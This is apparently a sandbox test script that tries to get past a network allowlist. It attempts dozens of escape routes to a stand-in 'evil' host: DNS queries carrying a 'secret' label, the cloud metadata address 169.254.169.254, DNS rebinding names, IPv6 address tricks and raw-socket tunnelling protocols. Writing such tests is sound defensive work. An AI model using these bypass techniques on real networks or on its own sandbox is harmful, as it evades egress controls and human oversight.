# SPDX-License-Identifier: Apache-2.0
# Tries to get around the rules of --allow. Prints one line for each trick that worked.
import socket, struct, sys

EVIL, GOOD, HOST = sys.argv[1:4]
GATEWAY = "192.168.127.1"


def reached(number, what):
    print(number, "REACHED", what, flush=True)


def attempt(number, kind, family, address, data=b"hello", flags=0, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(1)
    try:
        if kind == socket.SOCK_DGRAM:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if flags or kind == socket.SOCK_RAW:
            s.sendto(data, flags, address)
        else:
            s.connect(address)
            s.send(data)
        if s.recv(100):
            reached(number, address)
    except OSError:
        pass
    s.close()


def tcp(number, host, port):
    attempt(number, socket.SOCK_STREAM, socket.AF_INET, (host, port))


def udp(number, host, port):
    attempt(number, socket.SOCK_DGRAM, socket.AF_INET, (host, port))


def query(labels, typ, opcode=0, questions=1, kind=1):
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    question = name + struct.pack(">HH", typ, kind)
    return struct.pack(">HBBHHHH", 0x1234, opcode << 3 | 1, 0, questions, 0, 0, 0) + question * questions


def ask(number, message, stream=False):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((GATEWAY, 53))
    s.send(struct.pack(">H", len(message)) + message if stream else message)
    answer = s.recv(2000)[2 if stream else 0:]
    if len(answer) < 12 or answer[3] & 15 == 2 or answer[6:8] != b"\0\0":
        reached(number, answer)
    s.close()


def resolve(number, name):
    try:
        return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
    except OSError:
        return None


A, NULL, TXT, ANY = 1, 10, 16, 255
if not resolve(0, "good.test"):
    sys.exit("good.test does not resolve")
with socket.create_connection((GATEWAY, 53), 5) as s:
    message = query([b"GOOD", b"test"], A)
    s.send(struct.pack(">H", len(message)) + message)
    answer = s.recv(2000)
    if answer[2:4] != message[:2] or b"GOOD" not in answer or answer[-4:] != socket.inet_aton(GOOD):
        sys.exit(f"the gateway answers over TCP: {answer}")
with socket.create_connection((GOOD, 80), 5) as s:
    s.send(b"hello")
    if s.recv(100) != b"hello":
        sys.exit("good.test does not answer")
tcp(1, EVIL, 80)
udp(2, EVIL, 443)
udp(3, EVIL, 53)
tcp(4, EVIL, 53)
tcp(5, EVIL, 853)
tcp(6, EVIL, 443)
tcp(7, GOOD, 8080)
if resolve(8, "evil.test"):
    reached(8, "evil.test")
ask(9, query([b"secret", b"evil", b"test"], A), stream=True)
ask(10, query([b"good", b"test"], TXT))
ask(11, query([b"n", b"wild", b"test"], NULL))
ask(12, query([b"any", b"wild", b"test"], ANY))
ask(13, query([b"good", b"test"], A, questions=2))
ask(14, query([b"good", b"test", b"evil2", b"test"], A))
ask(15, query([b"a.b", b"wild", b"test"], A))
tcp(16, "192.168.127.254", 7777)
tcp(17, HOST, 7777)
resolve(18, "rebind.wild.test")
resolve(19, "self.wild.test")
tcp(19, HOST, 7778)
tcp(20, "169.254.169.254", 80)
attempt(21, socket.SOCK_RAW, socket.AF_INET, (EVIL, 0), struct.pack(">BBHHH", 8, 0, 0xF7FE, 1, 0), protocol=socket.IPPROTO_ICMP)
attempt(22, socket.SOCK_STREAM, socket.AF_INET6, ("::ffff:" + EVIL, 81))
attempt(23, socket.SOCK_STREAM, socket.AF_INET6, ("2001:db8::3", 80))
attempt(24, socket.SOCK_STREAM, socket.AF_INET, (EVIL, 82), flags=socket.MSG_FASTOPEN)
udp(25, "255.255.255.255", 67)
attempt(26, socket.SOCK_STREAM, socket.AF_INET6, ("64:ff9b::" + EVIL, 80))
attempt(27, socket.SOCK_STREAM, socket.AF_INET6, ("2002:a47:803::1", 80))
udp(28, "169.254.169.254", 123)
attempt(29, socket.SOCK_DGRAM, socket.AF_INET6, ("2001:db8::53", 53))
for number, protocol in (30, 47), (31, 132):
    attempt(number, socket.SOCK_RAW, socket.AF_INET, (EVIL, 0), bytes(20), protocol=protocol)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(1)
    try:
        s.bind(("", 53))
        s.sendto(b"hello", (EVIL, 443))
        s.sendto(b"hello", (EVIL, 444))
        if s.recv(100):
            reached(32, EVIL)
    except OSError:
        pass
ask(33, query([b"chaos", b"wild", b"test"], A, kind=3))
attempt(34, socket.SOCK_STREAM, socket.AF_INET, (EVIL, 85), protocol=262)
attempt(35, socket.SOCK_DGRAM, socket.AF_INET, (EVIL, 9), protocol=136)
for number, name, port in (36, "meta.wild.test", 80), (37, "multi.wild.test", 81), (38, "alias.wild.test", 7777):
    for found in resolve(number, name) or []:
        tcp(number, found[4][0], port)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.sendto(b"hello", (GOOD, 80))
    s.recv(100)
    s.settimeout(1)
    try:
        s.sendto(b"hello", (EVIL, 446))
        if s.recv(100):
            reached(51, EVIL)
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(1)
    s.connect((GOOD, 80))
    s.send(b"hello")
    s.recv(100)
    try:
        s.connect((EVIL, 447))
        s.send(b"hello")
        if s.recv(100):
            reached(52, EVIL)
    except OSError:
        pass
udp(53, EVIL, 853)
attempt(54, socket.SOCK_RAW, socket.AF_INET6, ("2001:db8::3", 0), struct.pack(">BBHHH", 128, 0, 0, 1, 0), protocol=socket.IPPROTO_ICMPV6)
for number, protocol in (55, 41), (56, 4), (57, 50), (58, 33):
    attempt(number, socket.SOCK_RAW, socket.AF_INET, (EVIL, 0), bytes(20), protocol=protocol)
print("done", flush=True)
sys.stdin.readline()
